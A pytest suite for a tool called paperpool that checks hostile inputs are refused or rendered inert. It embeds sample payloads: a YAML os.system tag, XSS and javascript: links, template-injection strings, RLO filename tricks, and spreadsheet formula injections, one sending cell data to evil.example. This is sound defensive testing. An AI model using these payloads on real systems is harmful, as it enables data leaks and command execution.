"""Bad input never crashes, corrupts or injects (issue 7).

tests/hostile/<command>/<what-it-breaks>.<ext> is a corpus of hostile inputs, and
tests/hostile/<command>/expected.yaml says for each one how it is given to paperpool and the
exact output (tests/hostile/README.md has the keys). Each must end with exit status 1 and one clear message naming the file (and the
line, field or JSON pointer where there is one) and how to fix it, and must leave every
file as it was: the pool, the input, and the site a build would replace. With
tests/cases/validate and the trace fixtures of tests/cases/traces it makes the issue's corpus.

The other tests here: text meant for people (scripts, links, markdown and template
syntax, bidirectional controls) that validate accepts is shown inert in the site, the
feed, the README block and the exports; a build killed mid-way leaves the previous site
as it was; `readme` touches nothing outside its markers.
"""

from __future__ import annotations

import hashlib
import os
import re
import shutil
import signal
import stat
import subprocess
import sys
import time
import xml.etree.ElementTree as ET
from pathlib import Path

import bibtexparser
import pytest
import rispy
import yaml
from bibtexparser import middlewares

from paperpool.files.yamlio import load_yaml

from .conftest import CASE_NAMES, CASES, REPO, TINY, copy_shipped_pool, edit, lay_case
from .sitegen.elements import Elements
from .sitegen.pools import hostile_pool

CORPUS = REPO / "tests" / "hostile"
EXPECTATIONS = "expected.yaml"  # in each command's folder: its files' cases
# read strictly, so that a case written twice is an error rather than the second one silently winning
EXPECTED = {
    f"{path.parent.name}/{name}": case
    for path in sorted(CORPUS.glob(f"*/{EXPECTATIONS}"))
    for name, case in load_yaml(path, max_bytes=10_000_000).data.items()
}
NAMES = sorted(EXPECTED)
TIMING = re.compile(r"(?m)^( *\w+  ) *\d+\.\d\d s$")  # a build's stage lines, whose times vary
BIG = 16_000_000  # files larger than this are fingerprinted by size and time, not read


# ---------------------------------------------------------------------------------
# The corpus
# ---------------------------------------------------------------------------------


def _state(root: Path) -> dict[str, tuple]:
    """Every folder, file and link under `root`, without following links (one may point
    at /dev/zero), to prove that nothing was created, changed or deleted."""
    state = {}
    for folder, folders, files in os.walk(root):
        for name in folders + files:
            path = Path(folder) / name
            rel = path.relative_to(root).as_posix()
            if path.is_symlink():
                state[rel] = ("link", os.readlink(path))
            elif path.is_dir():
                state[rel] = ("folder",)
            elif not path.is_file():  # a named pipe or device laid as an output: reading it would block or lie
                state[rel] = ("special", stat.S_IFMT(path.stat().st_mode))
            elif path.stat().st_size > BIG:
                info = path.stat()
                state[rel] = ("big file", info.st_size, info.st_mtime_ns)
            else:
                state[rel] = ("file", hashlib.sha256(path.read_bytes()).hexdigest())
    return state


def _pool(kind: str, root: Path) -> Path:
    if kind == "tiny":
        shutil.copytree(TINY, root)
        return root
    return copy_shipped_pool(root)


def _grow(path: Path, size: int) -> None:
    """Make `path` `size` bytes long: JSON sparsely (a hole reads as zero bytes, so the
    gigabyte costs no disk), other text with comment lines."""
    if path.suffix == ".json":
        os.truncate(path, size)
        return
    comment = {".yaml": b"#", ".bib": b"%"}[path.suffix]
    line = comment + b" filler" * 10 + b"\n"
    full, rest = divmod(size - path.stat().st_size, len(line))
    if 0 < rest < 2:  # the last line needs room for its comment sign and line break
        full, rest = full - 1, rest + len(line)
    with path.open("ab") as handle:
        handle.write(line * full + (comment + b" " * (rest - 2) + b"\n" if rest else b""))
    assert path.stat().st_size == size


def _lay_as(path: Path, kind: str) -> None:
    """Lay a named pipe or a character device (a copy of /dev/null's node) where the file
    goes: an output paperpool must refuse, never replace."""
    path.unlink(missing_ok=True)
    if kind == "fifo":
        os.mkfifo(path)
        return
    null = os.stat("/dev/null")
    try:
        os.mknod(path, stat.S_IFCHR | 0o666, null.st_rdev)
    except PermissionError:
        pytest.skip("making a device node needs root (CAP_MKNOD)")


def _placed(text: str, places: dict[str, str]) -> str:
    for marker, value in places.items():
        text = text.replace(marker, value)
    return text


@pytest.fixture(scope="module")
def previous_site(tmp_path_factory) -> Path:
    """The tiny pool's site, built once; each build case gets a copy as the site it must not touch."""
    from click.testing import CliRunner

    from paperpool.cli.commands import cli

    site = tmp_path_factory.mktemp("previous") / "site"
    result = CliRunner().invoke(cli, ["--root", str(TINY), "build", "--out", str(site)])
    assert result.exit_code == 0, result.output
    return site


@pytest.mark.slow
@pytest.mark.parametrize("name", NAMES)
def test_hostile_input(name, tmp_path, run, request):
    case = EXPECTED[name]
    source = CORPUS / name
    root = _pool(case.get("pool", "tiny"), tmp_path / "pool")
    site = tmp_path / "site"
    if case["args"][0] == "build":
        shutil.copytree(request.getfixturevalue("previous_site"), site, symlinks=True)
    target = root / case["place"] if "place" in case else tmp_path / "inputs" / source.name
    target.parent.mkdir(parents=True, exist_ok=True)
    if "link_to" in case:
        target.unlink(missing_ok=True)
        target.symlink_to(case["link_to"])
    elif "lay_as" in case:
        _lay_as(target, case["lay_as"])
    else:
        shutil.copyfile(source, target)
    if "grow_to" in case:
        _grow(target, case["grow_to"])
    if "append" in case:  # a long run of one text, too dull to commit
        with target.open("a", encoding="utf-8") as handle:
            handle.write(case["append"]["text"] * case["append"]["times"] + case["append"].get("then", "\n"))
    lines = source.read_text(encoding="utf-8").splitlines() if source.suffix == ".args" else []
    places = {"{file}": str(target), "{site}": str(site), "{pool}": str(root)}
    args = [part for arg in case["args"] for part in (lines if arg == "{lines}" else [_placed(arg, places)])]
    before = _state(tmp_path)

    result = run(*args, cwd=root)

    output = TIMING.sub(r"\g<1>  0.00 s", result.output)
    assert (result.exit_code, output) == (1, _placed(case["output"], places))
    assert "Traceback" not in output and "internal error" not in output
    # one message names the input (a command line's field for add), with how to fix it
    shown = r"(key|--set [\w.]+)" if source.suffix == ".args" else re.escape(case.get("place", target.name))
    messages = [line for line in output.splitlines() if re.search(rf"(^|\s|/){shown}(:\d+)?: ", line) and "; " in line]
    assert len(messages) == 1, output
    assert _state(tmp_path) == before, "a hostile input must leave every file as it was"


def test_every_corpus_file_has_its_expected_output():
    files = {
        path.relative_to(CORPUS).as_posix()
        for path in CORPUS.rglob("*")
        if path.is_file() and path.name != EXPECTATIONS and path.parent != CORPUS
    }
    assert files == set(EXPECTED)
    assert {name.split("/")[0] for name in files} >= {
        "validate",
        "registry",
        "claims",
        "import-csv",
        "import-bib",
        "audit",
        "readme",
        "add",
        "build",
    }


def test_the_corpus_holds_at_least_50_hostile_inputs():
    """This corpus, the validate cases that must fail, and the trace fixtures other than valid ones."""
    failing_cases = [name for name in CASE_NAMES if (CASES / name / "expected").read_text().startswith("1\n")]
    trace_fixtures = [path for path in (REPO / "tests" / "cases" / "traces").glob("*.json") if not path.name.startswith("valid")]
    assert len(NAMES) + len(failing_cases) + len(trace_fixtures) >= 50
    assert len(NAMES) >= 50  # and this corpus alone


@pytest.mark.slow
def test_a_hostile_validate_case_also_stops_every_command_that_reads_the_pool(run, pool_copy, snapshot):
    """The validate cases are the pool's corpus; the commands that need a valid pool refuse it with the same line."""
    lay_case(CASES / "python-object-tag", pool_copy)
    before = snapshot(pool_copy)
    line = (
        "papers/markov-games1994.yaml:32: notes: YAML tag '!!python/object/apply:os.system' is not allowed; write a plain value"
    )
    for args in (
        ["export"],
        ["stats"],
        ["gaps"],
        ["claims"],
        ["readme"],
        ["audit"],
        ["export", "--format", "bib", "-o", "x.bib"],
    ):
        result = run(*args, cwd=pool_copy)
        assert (result.exit_code, result.output) == (1, f"Error: the pool is not valid: {line}; run paperpool validate\n"), args
    assert snapshot(pool_copy) == before


# ---------------------------------------------------------------------------------
# Text meant for people: accepted by validate, shown inert everywhere
# ---------------------------------------------------------------------------------

RLO = "\u202e"
LONG_TITLE = (
    f"{RLO}gnp.exe | Cell | Break | ![i](data:image/svg+xml,<svg onload=alert(1)>) "
    f'<a href="javascript:alert(1)">x</a> {{{{ config }}}} {{% raw %}} ' + "Long " * 600 + "end"
)
TABLE_SUMMARY = "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](data:text/html,<script>alert(1)</script>) |\n"
PEOPLE = {
    "key": "for-people",
    "title": LONG_TITLE,
    "authors": [f"{RLO}redro, Evil", "[Mallory](javascript:alert(1))"],
    "year": 2026,
    "urls": ["https://example.org/for-people"],
    "method": "search",
    "unit": "step",
    "decisions": {"D1": "designed"},
    "added": "2026-05-02",
    "summary": TABLE_SUMMARY,
}


# Text a spreadsheet would run as a formula, in an entry and an exclusion of the same pool,
# which lays out CSV so that its site offers the CSV downloads
FORMULA_TEXT = {
    "title": '=HYPERLINK("https://evil.example/?leak="&A1,"Open the paper")',
    "authors": ["=cmd|' /C calc'!A0, Eve", "@SUM(1+1), Mallory", "-2+3, Trudy"],
    "summary": "+1+cmd|' /C calc'!A0; =2 after a semicolon\n@3 after a line break\t-4 after a tab",
}
FORMULAS = {
    "key": "formulas",
    **FORMULA_TEXT,
    "year": 2026,
    "urls": ["https://example.org/formulas"],
    "method": "rl",
    "unit": "team",
    "decisions": {"D1": "designed"},
    "added": "2026-05-03",
}
FORMULA_EXCLUSION = {"key": "x-formula", "title": ' =WEBSERVICE("https://evil.example")', "stage": "full_text"}
CSV_LAYOUT = """
csv:
  entries:
    source_columns:
      - {column: key, field: key}
      - {column: title, field: title}
      - {column: authors, field: authors, convert: author_list}
      - {column: year, field: year, convert: integer}
      - {column: urls, field: urls, convert: url_list}
      - {column: method, field: method}
      - {column: unit, field: unit}
      - {column: decisions, field: decisions, convert: value_map}
      - {column: summary, field: summary}
  exclusions:
    source_columns:
      - {column: key, field: key}
      - {column: title, field: title}
      - {column: stage, field: stage}
"""


def people_pool(root: Path) -> Path:
    """The hostile pool of test_site, plus an entry with what that one lacks: a very long
    title, right-to-left overrides, data: links, a markdown table and raw HTML links; and
    an entry and an exclusion whose texts are spreadsheet formulas, with a CSV layout."""
    hostile_pool(root)
    for folder, record in (("papers", PEOPLE), ("papers", FORMULAS), ("exclusions", FORMULA_EXCLUSION)):
        text = yaml.safe_dump(record, allow_unicode=False, sort_keys=False, width=10_000)
        (root / folder / f"{record['key']}.yaml").write_text(re.sub(r"'(2026-05-0\d)'", r"\1", text), encoding="utf-8")
    with (root / "registry.yaml").open("a", encoding="utf-8") as registry:
        registry.write(CSV_LAYOUT)
    return root


@pytest.fixture(scope="module")
def people(tmp_path_factory):
    """The pool built once, with its README block rendered: (pool, site)."""
    from click.testing import CliRunner

    from paperpool.cli.commands import cli

    base = tmp_path_factory.mktemp("people")
    root = people_pool(base / "pool")
    assert CliRunner().invoke(cli, ["--root", str(root), "validate"]).exit_code == 0
    result = CliRunner().invoke(cli, ["--root", str(root), "build", "--out", str(base / "site")])
    assert result.exit_code == 0, result.output
    result = CliRunner().invoke(cli, ["--root", str(root), "readme"])
    assert result.exit_code == 0, result.output
    return root, base / "site"


@pytest.mark.slow
def test_no_output_for_people_holds_a_bidirectional_control(people, run):
    root, site = people
    shown = {
        path.relative_to(site).as_posix(): path.read_text(encoding="utf-8")
        for path in site.rglob("*")
        if path.suffix in (".html", ".xml", ".js", ".bib", ".ris")
    }
    shown["README.md"] = (root / "README.md").read_text(encoding="utf-8")
    for fmt in ("bib", "ris"):
        shown[f"export --format {fmt}"] = run("export", "--format", fmt, cwd=root).output
    assert len(shown) > 30
    assert [name for name, text in shown.items() if RLO in text or "\\u202e" in text.lower()] == []  # raw, or escaped in JSON
    # the data exports keep the records exactly as written
    assert RLO in (site / "downloads" / "pool.json").read_text(encoding="utf-8")


@pytest.mark.slow
def test_the_long_hostile_title_is_one_heading_of_text(people):
    _, site = people
    page = (site / "entries" / "for-people.html").read_text(encoding="utf-8")
    elements = Elements()
    elements.feed(page)
    assert not [tag for tag, _ in elements.elements if tag in ("iframe", "object", "embed")]
    assert not [text for text in elements.scripts if "alert" in text]
    values = [value for _, attrs in elements.elements for value in attrs.values() if value]
    assert not [v for v in values if v.strip().lower().startswith(("javascript:", "data:"))]
    assert not [(tag, a) for tag, attrs in elements.elements for a in attrs if a.startswith("on")]
    assert "&lt;svg onload=alert(1)&gt;" in page and "{{ config }}" in page and "{% raw %}" in page
    # the summary's markdown table stays one paragraph of text on its page
    summary = page.split("| a | b |", 1)[1].split("</p>", 1)[0]
    assert "<t" not in summary and "&lt;script&gt;alert(1)&lt;/script&gt;" in summary


@pytest.mark.slow
def test_the_feed_carries_the_titles_as_plain_text(people):
    _, site = people
    atom = "{http://www.w3.org/2005/Atom}"
    feed = ET.parse(site / "feed.xml").getroot()
    titles = {entry.find(f"{atom}title").text for entry in feed.iter(f"{atom}entry")}
    assert LONG_TITLE.replace(RLO, "") in titles
    assert all(
        link.get("href").startswith(("http://", "https://", "feed.xml", "recent.html", "entries/"))
        for link in feed.iter(f"{atom}link")
    )


def test_the_readme_block_shows_the_hostile_entry_as_text(people):
    import markdown as python_markdown

    root, _ = people
    html = python_markdown.markdown((root / "README.md").read_text(encoding="utf-8"), extensions=["attr_list", "tables"])
    elements = Elements()
    elements.feed(html)
    assert {tag for tag, _ in elements.elements} <= {"h1", "h3", "h4", "p", "ul", "li", "strong", "em", "a", "br", "code"}
    assert {name for _, attrs in elements.elements for name in attrs} <= {"href"}
    assert {attrs["href"] for tag, attrs in elements.elements if tag == "a"} == {
        f"https://example.org/{k}"
        for k in ("alpha", "beta", "gamma", "delta", "epsilon", "hostile?a=1&b=%3C2%3E", "for-people", "formulas")
    }
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html and "{{ config }}" in html


def test_the_bibtex_and_ris_exports_read_back_to_the_text_without_its_controls(people, run):
    root, _ = people
    library = bibtexparser.parse_string(
        run("export", "--format", "bib", cwd=root).output, append_middleware=[middlewares.LatexDecodingMiddleware()]
    )
    assert not library.failed_blocks
    cited = {entry.key: entry for entry in library.entries}
    assert cited["for-people"]["title"] == LONG_TITLE.replace(RLO, "")
    assert cited["for-people"]["author"] == "redro, Evil and [Mallory](javascript:alert(1))"
    ris = {entry["id"]: entry for entry in rispy.loads(run("export", "--format", "ris", cwd=root).output)}
    assert ris["for-people"]["title"] == LONG_TITLE.replace(RLO, "")
    assert ris["for-people"]["authors"] == ["redro, Evil", "[Mallory](javascript:alert(1))"]


def test_the_csv_downloads_and_exports_hold_no_formula_and_read_back_to_the_text(people, run):
    from .spreadsheets import runnable_cells

    root, site = people
    assert "downloads/entries.csv" in (site / "downloads.html").read_text(encoding="utf-8")
    written = {name: (site / "downloads" / name).read_bytes().decode("utf-8") for name in ("entries.csv", "exclusions.csv")}
    assert written["entries.csv"] == run("export", "--format", "csv", cwd=root).output
    assert written["exclusions.csv"] == run("export", "--exclusions", cwd=root).output
    assert {name: runnable_cells(text) for name, text in written.items()} == {"entries.csv": [], "exclusions.csv": []}
    assert "=HYPERLINK" in written["entries.csv"] and "WEBSERVICE" in written["exclusions.csv"]
    # import-csv reads each back to the record's text, into a pool of the same registry
    for name, kind, record in (("entries.csv", "papers", FORMULAS), ("exclusions.csv", "exclusions", FORMULA_EXCLUSION)):
        empty = root.parent / f"empty-{kind}"
        empty.mkdir()
        shutil.copy(root / "registry.yaml", empty / "registry.yaml")
        (empty / "papers").mkdir()
        (empty / "exclusions").mkdir()
        (empty / name).write_bytes(written[name].encode("utf-8"))
        args = ("--exclusions",) if kind == "exclusions" else ()
        result = run("import-csv", name, *args, "--date-added", "2026-05-03", cwd=empty)
        assert result.exit_code == 0, result.output
        imported = load_yaml(empty / kind / f"{record['key']}.yaml").data
        assert {field: imported[field] for field in record if field not in ("added", "year")} == {
            field: value.strip() if isinstance(value, str) else value
            for field, value in record.items()
            if field not in ("added", "year")
        }


# ---------------------------------------------------------------------------------
# Nothing lost
# ---------------------------------------------------------------------------------


def _files(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


@pytest.mark.slow
def test_a_build_killed_mid_way_leaves_the_previous_site_as_it_was(tmp_path, run):
    """A real `paperpool build`, killed (SIGKILL, with the engine it runs) once it has
    started writing the new site: the previous site is there, byte for byte, and the
    next build recovers and replaces it."""
    root = hostile_pool(tmp_path / "pool")
    site = tmp_path / "site"
    assert run("build", "--out", str(site), cwd=root).exit_code == 0
    edit(root / "papers" / "alpha.yaml", 'title: "Alpha: learning to split tasks"', 'title: "Alpha, retitled"')
    killed = False
    for _ in range(5):  # until a kill lands while the new site is being written (a build may finish first)
        before = _files(site)
        build = subprocess.Popen(
            [sys.executable, "-m", "paperpool", "build", "--out", str(site)],
            cwd=root,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
        while build.poll() is None and not any(
            p.name.startswith(".site.building-") and any(p.rglob("*.md")) for p in tmp_path.iterdir()
        ):
            time.sleep(0.01)
        if build.poll() is None:
            os.killpg(build.pid, signal.SIGKILL)  # the build and the engine it started
            build.wait()
            killed = True
            assert _files(site) == before, "the previous site must be intact, byte for byte, after a kill"
            break
    assert killed, "no kill landed while the build was writing"
    result = run("build", "--out", str(site), cwd=root)
    assert result.exit_code == 0, result.output
    assert "Alpha, retitled" in (site / "entries" / "alpha.html").read_text(encoding="utf-8")
    # the killed build's scratch folder was removed by the next build
    assert sorted(p.name for p in tmp_path.iterdir()) == ["pool", "site"]


@pytest.mark.slow
def test_two_builds_at_once_in_one_pool_both_succeed(tmp_path):
    """A maintainer's build while serve rebuilds, or two CI steps in one workspace: each
    builds in its own scratch folder and the last swap wins (issue 39: one of them used to
    fail with `statistics.html: no such file or folder`, its scratch folder removed by
    the other as abandoned)."""
    root = hostile_pool(tmp_path / "pool")
    site = root / "build" / "site"
    for _ in range(3):
        builds = [
            subprocess.Popen(
                [sys.executable, "-m", "paperpool", "build"],
                cwd=root,
                stdout=subprocess.PIPE,
                stderr=subprocess.STDOUT,
                text=True,
            )
            for _ in range(2)
        ]
        outputs = [build.communicate(timeout=300)[0] for build in builds]
        assert [build.returncode for build in builds] == [0, 0], outputs
        assert (site / "statistics.html").is_file() and (site / "entries" / "alpha.html").is_file()
        assert sorted(p.name for p in site.parent.iterdir()) == ["site"]  # no scratch folder left behind


@pytest.mark.slow
def test_a_build_leaves_the_scratch_folder_of_a_build_still_running(tmp_path, run):
    fcntl = pytest.importorskip("fcntl")
    root = hostile_pool(tmp_path / "pool")
    running, abandoned = tmp_path / ".site.building-running", tmp_path / ".site.building-abandoned"
    for folder in (running, abandoned):
        (folder / "docs").mkdir(parents=True)
        (folder / ".lock").touch()
        (folder / ".paperpool-staging").touch()
    with open(running / ".lock", "a") as held:
        fcntl.flock(held, fcntl.LOCK_EX)  # as the running build does
        assert run("build", "--out", str(tmp_path / "site"), cwd=root).exit_code == 0
    assert running.is_dir() and not abandoned.exists()


def test_readme_touches_nothing_outside_its_markers(run, tiny):
    """Line endings, trailing spaces, tabs, text on the marker's neighbours and no final newline stay byte for byte."""
    start, end = "<!-- paperpool:readme:start -->", "<!-- paperpool:readme:end -->"
    before_block = "# A tiny survey\r\n\r\nText \t with trailing spaces   \r\n<!-- an unrelated comment -->\r\n"
    after_block = "\r\nMore text, no final newline: é ✓ \u202e"
    readme = tiny / "README.md"
    readme.write_bytes(f"{before_block}{start}\r\nstale block\r\n{end}{after_block}".encode())
    result = run("readme", cwd=tiny)
    assert (result.exit_code, result.output) == (0, "README.md: block rewritten.\n")
    text = readme.read_bytes().decode()
    assert text.startswith(f"{before_block}{start}\r\n") and text.endswith(f"\r\n{end}{after_block}")
    assert "stale block" not in text and "\n" not in text.replace("\r\n", "")


# ---------------------------------------------------------------------------------
# File names that are not UTF-8 (they cannot be committed portably, so they are made here)
# ---------------------------------------------------------------------------------

NOT_UTF8 = "its name is not UTF-8 text, which paperpool cannot write into a page, a table or a message"
NAME_CASES = {  # case: (folder, file name, command line, exact output)
    "record": (
        "papers",
        b"alpha\xff.yaml",
        ["validate"],
        f"papers/alpha\\xff.yaml:1: {NOT_UTF8}; rename it to its key: KEY.yaml\n1 error, 0 warnings.\n",
    ),
    "exclusion": (
        "exclusions",
        b"x\xff.yaml",
        ["stats"],
        (
            f"Error: the pool is not valid: exclusions/x\\xff.yaml:1: {NOT_UTF8}; rename it to its key: KEY.yaml; "
            "run paperpool validate\n"
        ),
    ),
    "pool trace, validate": (
        "traces",
        b"t\xff.json",
        ["validate"],
        f"traces/t\\xff.json:1: {NOT_UTF8}; rename it with UTF-8 characters\n1 error, 0 warnings.\n",
    ),
    "pool trace, build": (
        "traces",
        b"t\xff.json",
        ["build", "--out", "{site}"],
        f" validate    0.00 s\nError: traces/t\\xff.json: {NOT_UTF8}; rename it with UTF-8 characters\n",
    ),
    "pool trace, trace validate": (
        "traces",
        b"t\xff.json",
        ["trace", "validate"],
        f"Error: traces/t\\xff.json: {NOT_UTF8}; rename it with UTF-8 characters\n",
    ),
    "corpus, metrics": (
        "corpora",
        b"c\xff.jsonl",
        ["trace", "metrics", "corpora"],
        f"Error: corpora/c\\xff.jsonl: {NOT_UTF8}; rename it with UTF-8 characters (nothing was read)\n",
    ),
    "corpus, summary": (
        "corpora/deeper",
        b"c\xff.json.gz",
        ["trace", "summary", "corpora"],
        f"Error: corpora/deeper/c\\xff.json.gz: {NOT_UTF8}; rename it with UTF-8 characters (nothing was read)\n",
    ),
    "corpus, export": (
        "corpora",
        b"c\xff.json",
        ["trace", "export", "corpora/*.json", "-o", "{site}"],
        f"Error: corpora/c\\xff.json: {NOT_UTF8}; rename it with UTF-8 characters (nothing was read)\n",
    ),
    "hand-written page": (
        "site",
        b"page\xff.md",
        ["build", "--out", "{site}"],
        (
            f"site/page\\xff.md:1: {NOT_UTF8}; rename it with UTF-8 characters\n"
            "Error: mkdocs.yml or the hand-written pages are not accepted (1 problem above); nothing was built, "
            "the previous site is unchanged\n"
        ),
    ),
    "hand-written page, validate": (
        "site/deeper",
        b"page\xff.md",
        ["validate"],
        (f"site/deeper/page\\xff.md:1: {NOT_UTF8}; rename it with UTF-8 characters\n1 error, 0 warnings.\n"),
    ),
}


@pytest.mark.slow
@pytest.mark.parametrize("case", NAME_CASES)
def test_a_file_name_that_is_not_utf8_is_refused_in_one_line(case, tmp_path, run, request):
    folder, name, args, expected = NAME_CASES[case]
    root = _pool("tiny", tmp_path / "pool")
    site = tmp_path / "site"
    if args[0] == "build":
        shutil.copytree(request.getfixturevalue("previous_site"), site, symlinks=True)
    (root / folder).mkdir(parents=True, exist_ok=True)
    source = REPO / "traces" / "debate-two-rounds.json" if ".json" in name.decode("latin-1") else TINY / "papers" / "alpha.yaml"
    if name.endswith(b".gz"):
        import gzip

        data = gzip.compress(source.read_bytes())
    else:
        data = source.read_bytes().replace(b"\n", b" ") if name.endswith(b".jsonl") else source.read_bytes()
    with open(os.fsencode(root / folder) + b"/" + name, "wb") as handle:
        handle.write(data)
    before = _state(tmp_path)
    result = run(*[arg.replace("{site}", str(site)) for arg in args], cwd=root)
    assert (result.exit_code, TIMING.sub(r"\g<1>  0.00 s", result.output)) == (1, expected)
    assert _state(tmp_path) == before
